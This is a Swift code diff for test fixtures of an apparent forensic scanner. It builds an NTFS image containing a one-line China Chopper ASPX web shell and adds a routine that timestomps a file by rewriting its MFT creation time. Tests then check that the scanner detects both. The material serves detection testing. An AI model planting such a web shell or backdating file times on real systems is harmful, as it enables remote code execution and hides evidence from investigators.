@@ -53,7 +53,8 @@ enum ImageTools {
                 while let rel = e.nextObject() as? String { files.append(mnt.appendingPathComponent(rel).path) }
             }
             try must(touch, ["-d", "2021-03-09 12:00:00 UTC"] + files)
-            try must(touch, ["-d", "2021-02-28 01:05:00 UTC", mnt.appendingPathComponent("inetpub/wwwroot/aspnet_client/supp0rt.aspx").path])
+            let shell = mnt.appendingPathComponent("inetpub/wwwroot/aspnet_client/supp0rt.aspx").path
+            try must(touch, ["-d", "2021-02-28 01:05:00 UTC", shell])
             let gone = mnt.appendingPathComponent("inetpub/wwwroot/aspnet_client/gone.aspx")
             try Data(#"<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>"#.utf8).write(to: gone)
             try must(touch, ["-d", "2021-03-01 02:00:00 UTC", gone.path])
@@ -65,7 +66,46 @@ enum ImageTools {
             throw error
         }
         try must(umount, [mnt.path])
+        // The shell's creation time set back as a timestomping tool does: in its MFT record's
+        // $STANDARD_INFORMATION only ($FILE_NAME keeps the day its name was made).
+        try setBackCreation(of: "supp0rt.aspx", in: vol, to: 1_614_474_300)
         return vol
+    }
+
+    /// Writes `unixTime` as the $STANDARD_INFORMATION creation time of the MFT record whose
+    /// $FILE_NAME is `name`, in the volume's bytes (the record's first sector: its fixups stay right).
+    static func setBackCreation(of name: String, in vol: URL, to unixTime: Int) throws {
+        var bytes = try Data(contentsOf: vol)
+        func u16(_ o: Int) -> Int { Int(bytes[o]) | Int(bytes[o + 1]) << 8 }
+        func u32(_ o: Int) -> Int { u16(o) | u16(o + 2) << 16 }
+        let sector = u16(0x0B), cluster = sector * Int(bytes[0x0D])
+        let mftStart = (u32(0x30) | u32(0x34) << 32) * cluster
+        let perRecord = Int(Int8(bitPattern: bytes[0x40]))
+        let recordSize = perRecord < 0 ? 1 << -perRecord : perRecord * cluster
+        let needle = Data(name.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] })
+        for r in 0..<4_096 {
+            let start = mftStart + r * recordSize
+            guard start + recordSize <= bytes.count, bytes[start..<start + 4].elementsEqual("FILE".utf8) else { continue }
+            // The record whose own $FILE_NAME is the name (its folder's record holds it in its index too).
+            var standard: Int?, named = false
+            var a = start + u16(start + 0x14)
+            while a + 8 < start + recordSize, u32(a) != 0xFFFF_FFFF, u32(a + 4) >= 8 {
+                let content = a + u16(a + 0x14)
+                if u32(a) == 0x10 { standard = content }
+                if u32(a) == 0x30, content + 0x42 + needle.count <= bytes.count,
+                   Int(bytes[content + 0x40]) * 2 == needle.count, bytes[content + 0x42..<content + 0x42 + needle.count].elementsEqual(needle) {
+                    named = true
+                }
+                a += u32(a + 4)
+            }
+            if named, let standard {
+                var filetime = UInt64(unixTime + 11_644_473_600) * 10_000_000
+                withUnsafeBytes(of: &filetime) { bytes.replaceSubrange(standard..<standard + 8, with: $0) }
+                try bytes.write(to: vol)
+                return
+            }
+        }
+        throw Failed()
     }
 
     /// ntfs-3g stays behind as the FUSE daemon: it must inherit no descriptor of ours (the pipe
@@ -205,7 +245,11 @@ struct ImageHuntTests {
             // The folder's findings, and those of the deleted shell, which only the image still holds
             // (its name, and its content where its clusters were: YARA and the content rules too).
             let deletedRule = "cfe24f53-159f-4681-a6cc-430f78b81c88"
-            #expect(report.findingKeys(excluding: "gone.aspx") == expected.findingKeys, "\(name)")
+            // The shell's creation time was set back before its name was made.
+            let setBackRule = "9127a793-9114-4614-9400-6be8e4f379cb"
+            #expect(report.findingKeys(excluding: "gone.aspx").filter { !$0.hasPrefix(setBackRule) } == expected.findingKeys, "\(name)")
+            #expect(report.findings.filter { $0.rule.id == setBackRule }.map(\.evidence.path) == ["C:/inetpub/wwwroot/aspnet_client/supp0rt.aspx"], "\(name)")
+            #expect(!expected.findings.contains { $0.rule.id == setBackRule }, "a folder has no $FILE_NAME times")
             #expect(report.findings.contains { $0.evidence.path.hasSuffix("gone.aspx") && $0.rule.id.contains("ChinaChopper") }, "\(name)")
             let gone = try #require(report.findings.first { $0.rule.id == deletedRule }, "\(name)")
             #expect(gone.evidence.path == "C:/inetpub/wwwroot/aspnet_client/gone.aspx", "\(name)")
